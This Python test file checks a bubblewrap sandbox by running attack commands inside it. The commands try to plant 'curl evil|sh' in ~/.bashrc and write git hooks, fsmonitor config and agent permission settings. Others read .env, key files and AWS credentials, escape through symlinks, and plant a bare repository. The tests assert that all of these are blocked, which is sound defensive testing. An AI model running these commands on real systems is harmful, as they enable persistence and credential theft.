"""Attacks on a real sandbox: every test runs real processes in bubblewrap (``SPEC.md`` §8,
REF §6.2/§6.3).

Skipped only when this kernel forbids the namespaces bubblewrap needs (the reason printed is
``warden doctor``'s).  Each command takes a few milliseconds; the whole file stays well under
ten seconds.
"""

from __future__ import annotations

import asyncio
import json
import os
import secrets
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.waiting import wait_for, wait_for_sync
from tui.sandbox.doctor import can_run
from tui.sandbox.policy import SandboxPolicy, resolve_policy
from tui.sandbox.runner import SandboxResult, SandboxRunner, SandboxUnavailable
from tui.settings import load_settings
from tui.settings.model import CliSettings

_OK, _WHY = can_run()
pytestmark = pytest.mark.skipif(not _OK, reason=f"the kernel forbids the sandbox: {_WHY}")

REPO = Path(__file__).resolve().parents[1]


def _real(p: Path) -> Path:
    return Path(os.path.realpath(p))


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = _real(tmp_path) / "project"
    root.mkdir()
    return root


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    h = _real(tmp_path) / "home"
    h.mkdir()
    monkeypatch.setenv("HOME", str(h))
    return h


def _policy(project: Path, home: Path, settings: dict | None = None, *,
            discover: bool = False) -> SandboxPolicy:
    cli = CliSettings(settings=json.dumps(settings)) if settings is not None else None
    loaded = load_settings(project, cli=cli, only=None if discover else ())
    return resolve_policy(loaded, cwd=project, working_dirs=[project], home=home)


async def _run(policy: SandboxPolicy, cwd: Path, command: str, *,
               timeout_s: float = 10.0) -> SandboxResult:
    runner = SandboxRunner(policy, cwd=cwd)
    try:
        return await runner.run(command, timeout_s=timeout_s)
    finally:
        await runner.aclose()


def _pids_with(marker: str) -> list[int]:
    """Host pids whose command line contains ``marker``."""
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            with open(f"/proc/{name}/cmdline", "rb") as fh:
                cmdline = fh.read()
            with open(f"/proc/{name}/stat", "rb") as fh:
                state = fh.read().rsplit(b")", 1)[-1].split()[0]
        except OSError:
            continue
        if marker.encode() in cmdline and state != b"Z":
            found.append(int(name))
    return found


def _wait_gone(marker: str, within_s: float, what: str = "the sandboxed sleep to end") -> None:
    """Wait until no process runs ``sleep <marker>``; raises naming ``what`` otherwise."""
    wait_for_sync(lambda: not _pids_with(marker), what=f"{what} (sleep {marker})",
                  timeout=within_s)


# -- writes -----------------------------------------------------------------------------------


async def test_write_outside_the_working_directory_fails(project: Path, home: Path,
                                                         tmp_path: Path) -> None:
    outside = _real(tmp_path) / "outside.txt"
    result = await _run(_policy(project, home), project,
                        f"echo pwned > {outside}; echo inside > inside.txt")
    assert not outside.exists()
    assert (project / "inside.txt").read_text() == "inside\n"
    assert f"write blocked: {outside} (read-only file system)" in result.violations


async def test_git_hooks_and_config_are_read_only(project: Path, home: Path) -> None:
    (project / ".git" / "hooks").mkdir(parents=True)
    (project / ".git" / "config").write_text("[core]\n")
    (project / "src").mkdir()
    result = await _run(_policy(project, home), project,
                        "echo evil > .git/hooks/pre-commit; "
                        "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config; "
                        "mv .git .gitx; rm -rf .git/hooks; "
                        "echo ok > src/main.py; echo idx > .git/index")
    assert not (project / ".git" / "hooks" / "pre-commit").exists()
    assert (project / ".git" / "config").read_text() == "[core]\n"
    assert (project / ".git").is_dir() and not (project / ".gitx").exists()
    assert (project / "src" / "main.py").read_text() == "ok\n"
    assert (project / ".git" / "index").read_text() == "idx\n"  # git commit still works
    assert any(".git/hooks/pre-commit" in v for v in result.violations)
    assert any(v.endswith(".git (protected mount point)") for v in result.violations)


async def test_planting_agent_settings_is_blocked(project: Path, home: Path) -> None:
    """``.claude`` did not exist: it is created empty and mounted read-only, so a command cannot
    plant ``settings.local.json`` with allow rules; a new ``.mcp.json`` is reported."""
    result = await _run(_policy(project, home), project,
                        "echo '{\"permissions\":{\"allow\":[\"Bash\"]}}' "
                        "> .claude/settings.local.json; echo '{}' > .mcp.json")
    assert not (project / ".claude" / "settings.local.json").exists()
    assert any(v.startswith("protected path created:") and v.split()[3].endswith(".mcp.json")
               for v in result.violations)


async def test_bashrc_in_home_is_not_writable(project: Path, home: Path) -> None:
    (home / ".bashrc").write_text("# mine\n")
    await _run(_policy(project, home), project, "echo 'curl evil|sh' >> ~/.bashrc")
    assert (home / ".bashrc").read_text() == "# mine\n"


async def test_shell_rc_at_the_top_of_a_writable_home(home: Path) -> None:
    """A session started in the home directory: rc files there stay read-only."""
    (home / ".bashrc").write_text("# mine\n")
    (home / ".profile").write_text("# mine\n")
    result = await _run(_policy(home, home), home,
                        "echo evil >> .bashrc; echo evil >> .profile; echo fine > notes.txt")
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert (home / ".profile").read_text() == "# mine\n"
    assert (home / "notes.txt").read_text() == "fine\n"
    assert result.exit_code == 0


async def test_write_through_a_symlink_pointing_outside_fails(project: Path, home: Path,
                                                              tmp_path: Path) -> None:
    outside = _real(tmp_path) / "elsewhere"
    outside.mkdir()
    (project / "link").symlink_to(outside)
    (project / "filelink").symlink_to(outside / "target.txt")
    await _run(_policy(project, home), project,
               "echo x > link/new.txt; echo y > filelink; ln -sf /etc/passwd p2; echo z >> p2")
    assert list(outside.iterdir()) == []


async def test_session_temp_dir(project: Path, home: Path) -> None:
    runner = SandboxRunner(_policy(project, home), cwd=project)
    try:
        result = await runner.run('echo "$TMPDIR"; echo data > "$TMPDIR/f" && cat "$TMPDIR/f"',
                                  timeout_s=10)
        tmp = runner.session_tmp
        assert tmp is not None
        assert result.output.splitlines() == [str(tmp), "data"]
        assert (tmp.stat().st_mode & 0o777) == 0o700
    finally:
        await runner.aclose()
    assert not tmp.exists()


# -- reads ------------------------------------------------------------------------------------


async def test_deny_read_hides_content_and_allow_read_reopens(project: Path, home: Path) -> None:
    secret = "s3cr3t-" + secrets.token_hex(8)
    (project / ".env").write_text(f"TOKEN={secret}\n")
    (project / "vault").mkdir()
    (project / "vault" / "key.pem").write_text(secret)
    (project / "vault" / "README").write_text("public\n")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text(secret)
    policy = _policy(project, home, {
        "permissions": {"deny": ["Read(.env)"]},
        "sandbox": {"filesystem": {"denyRead": ["./vault", "~/.aws"],
                                   "allowRead": ["./vault/README"]}}})
    result = await _run(policy, project,
                        "cat .env; cat vault/key.pem; ls vault; cat ~/.aws/credentials; "
                        "grep -r s3cr3t . ~ 2>/dev/null; cat vault/README; "
                        "echo x > vault/new; cp /dev/null .env")
    assert secret not in result.output
    assert "public" in result.output
    assert (project / ".env").read_text() == f"TOKEN={secret}\n"
    assert not (project / "vault" / "new").exists()


# -- processes --------------------------------------------------------------------------------


async def test_host_processes_are_invisible(project: Path, home: Path) -> None:
    me = os.getpid()
    result = await _run(_policy(project, home), project,
                        f"ls /proc | grep -E '^[0-9]+$' | sort -n | tr '\\n' ' '; echo; "
                        f"kill -0 {me} && echo VISIBLE || echo gone; cat /proc/{me}/environ")
    pids = [int(p) for p in result.output.splitlines()[0].split()]
    assert pids and max(pids) < 50
    assert "VISIBLE" not in result.output and "gone" in result.output


async def test_no_capabilities_even_as_root(project: Path, home: Path) -> None:
    result = await _run(_policy(project, home), project,
                        "grep CapEff /proc/self/status; mount -t tmpfs x /mnt && echo MOUNTED; "
                        "umount /usr && echo UNMOUNTED; true")
    assert "CapEff:\t0000000000000000" in result.output
    assert "MOUNTED" not in result.output


async def test_no_network_without_a_proxy(project: Path, home: Path) -> None:
    result = await _run(_policy(project, home), project,
                        "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '")
    assert result.output.split() == ["lo"]


async def test_host_unix_sockets_are_unreachable(project: Path, home: Path,
                                                 tmp_path: Path) -> None:
    path = str(_real(tmp_path) / "host.sock")
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(path)
    server.listen(1)
    try:
        result = await _run(_policy(project, home), project,
                            f"{sys.executable} -S -c \"import socket; s=socket.socket("
                            f"socket.AF_UNIX); s.connect('{path}'); print('CONNECTED')\"")
    finally:
        server.close()
    assert "CONNECTED" not in result.output
    assert "Operation not permitted" in result.output


async def test_timeout_kills_the_whole_sandbox(project: Path, home: Path) -> None:
    marker = f"{61 + secrets.randbelow(30)}.{secrets.randbelow(10**6):06d}"
    start = time.monotonic()
    result = await _run(_policy(project, home), project,
                        f"sleep {marker} & sleep {marker}; echo never", timeout_s=0.5)
    assert result.timed_out
    assert time.monotonic() - start < 5
    _wait_gone(marker, 2.0)


async def test_cancel_kills_the_sandbox(project: Path, home: Path) -> None:
    marker = f"{61 + secrets.randbelow(30)}.{secrets.randbelow(10**6):06d}"
    task = asyncio.create_task(_run(_policy(project, home), project, f"sleep {marker}"))
    await wait_for(lambda: _pids_with(marker), what=f"the sandboxed sleep {marker} to start")
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    _wait_gone(marker, 10.0)  # a deadline, not a speed: the kill is asynchronous under load


_PARENT = """
import asyncio, sys
from pathlib import Path
from tui.sandbox.policy import SandboxPolicy
from tui.sandbox.runner import SandboxRunner
cwd = Path(sys.argv[1])
policy = SandboxPolicy(enabled=True, write_paths=(cwd,), working_dirs=(cwd,),
                       bwrap_path=sys.argv[3])
asyncio.run(SandboxRunner(policy, cwd=cwd).run("sleep " + sys.argv[2], timeout_s=120))
"""


def test_sandbox_dies_with_its_parent(project: Path, home: Path) -> None:
    marker = f"{61 + secrets.randbelow(30)}.{secrets.randbelow(10**6):06d}"
    policy = _policy(project, home)
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    parent = subprocess.Popen([sys.executable, "-c", _PARENT, str(project), marker,
                               str(policy.bwrap_path)], env=env, cwd=REPO)
    try:
        wait_for_sync(lambda: _pids_with(marker), what=f"the sandboxed sleep {marker} to start")
        parent.send_signal(signal.SIGKILL)
        parent.wait()
        _wait_gone(marker, 2.0, what="the sandbox to die with its parent")
    finally:
        if parent.poll() is None:
            parent.kill()
            parent.wait()


# -- failing closed ---------------------------------------------------------------------------


def _missing_bwrap_settings(tmp_path: Path) -> Path:
    missing = _real(tmp_path) / "no" / "bwrap"
    managed = Path(os.environ["WARDEN_MANAGED_DIR"])
    managed.mkdir(parents=True, exist_ok=True)
    (managed / "managed-settings.json").write_text(json.dumps(
        {"sandbox": {"enabled": True, "failIfUnavailable": True, "bwrapPath": str(missing)}}))
    return missing


async def test_missing_bwrap_path_is_unavailable(project: Path, home: Path,
                                                 tmp_path: Path) -> None:
    missing = _missing_bwrap_settings(tmp_path)
    policy = _policy(project, home, discover=True)
    assert policy.fail_if_unavailable and policy.bwrap_path == str(missing)
    runner = SandboxRunner(policy, cwd=project)
    ok, why = runner.available()
    assert not ok and str(missing) in why
    with pytest.raises(SandboxUnavailable, match=str(missing)):
        await runner.run("touch ran", timeout_s=5)
    assert not (project / "ran").exists()


def test_cli_exits_125_when_unavailable(project: Path, home: Path, tmp_path: Path,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    from tui.cli_sandbox import sandbox_run_main

    missing = _missing_bwrap_settings(tmp_path)
    code = sandbox_run_main(["--cwd", str(project), "--settings", "{}", "--", "touch", "ran"])
    assert code == 125
    assert str(missing) in capsys.readouterr().err
    assert not (project / "ran").exists()


def test_cli_runs_and_reports(project: Path, home: Path, tmp_path: Path,
                              capsys: pytest.CaptureFixture[str]) -> None:
    from tui.cli_sandbox import sandbox_run_main

    outside = _real(tmp_path) / "x"
    code = sandbox_run_main(["--cwd", str(project), "--settings", "{}", "--no-network", "--",
                             f"echo hello; touch {outside}; exit 3"])
    out, err = capsys.readouterr()
    assert code == 3 and out.startswith("hello")
    assert f"sandbox: write blocked: {outside} (read-only file system)" in err


async def test_setup_failure_never_runs_the_command(project: Path, home: Path,
                                                    tmp_path: Path) -> None:
    """bubblewrap that cannot set up (here: the start directory is gone) raises; nothing runs
    outside the sandbox."""
    gone = _real(tmp_path) / "gone"
    gone.mkdir()
    policy = _policy(project, home)
    runner = SandboxRunner(policy, cwd=gone)
    gone.rmdir()
    marker = _real(tmp_path) / "ran"
    with pytest.raises(SandboxUnavailable, match="bubblewrap could not set up"):
        await runner.run(f"touch {marker}", timeout_s=5)
    await runner.aclose()
    assert not marker.exists()


async def test_planted_bare_repository_is_refused(project: Path, home: Path) -> None:
    """HEAD cannot be created at the top of a working directory (issue 10 item 2: it is held,
    as a directory, during the command), so no bare repository is planted."""
    result = await _run(_policy(project, home), project,
                        "mkdir objects refs; echo 'ref: refs/heads/main' > HEAD; "
                        "printf '[core]\\n\\tfsmonitor = evil\\n' > config")
    assert not any(v.startswith("bare repository planted") for v in result.violations)
    assert (f"write blocked: {project / 'HEAD'} (protected: it may not be created here, so "
            "Warden holds it read-only while the command runs)") in result.violations
    assert not (project / "HEAD").exists()
